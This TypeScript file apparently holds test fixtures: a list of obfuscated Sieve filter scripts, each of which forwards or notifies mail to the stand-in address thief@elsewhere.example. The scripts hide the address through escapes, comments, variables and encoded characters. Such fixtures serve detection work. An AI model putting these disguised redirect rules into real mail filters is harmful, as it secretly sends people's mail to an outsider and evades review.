// Hidden ways of forwarding letters to thief@elsewhere.example that RFC 5228 allows.
export const disguisedRedirects: readonly string[] = [
  'redirect "thief@elsewhere.example";',
  'require "copy"; ReDiReCt\t:copy\r\n"thief@elsewhere.example"\n;',
  'require "copy"; redirect/* harmless; */:copy # "anna@post.example";\n' +
    ' "thief@elsewhere.example" ;',
  'redirect "th\\ief@elsewhere\\.example";',
  'redirect text: # one line\r\nthief@elsewhere.example\r\n.\r\n;',
  'if true{if not anyof(false,header :is ["a","b"] "c")' +
    '{keep;}else{redirect "thief@elsewhere.example";}}',
  `require "variables"; set "who" "thief"; redirect "\${WHO}@elsewhere.example";`,
  `require ["variables"]; set "a" "thief@"; set "b" "\${a}elsewhere"; redirect "\${b}.example";`,
  `require "encoded-character"; redirect "thief\${hex:40}\${unicode: 65 6c}sewhere.example";`,
  'require "enotify"; notify :message "seen" "mailto:thief%40elsewhere.example?subject=x";',
]
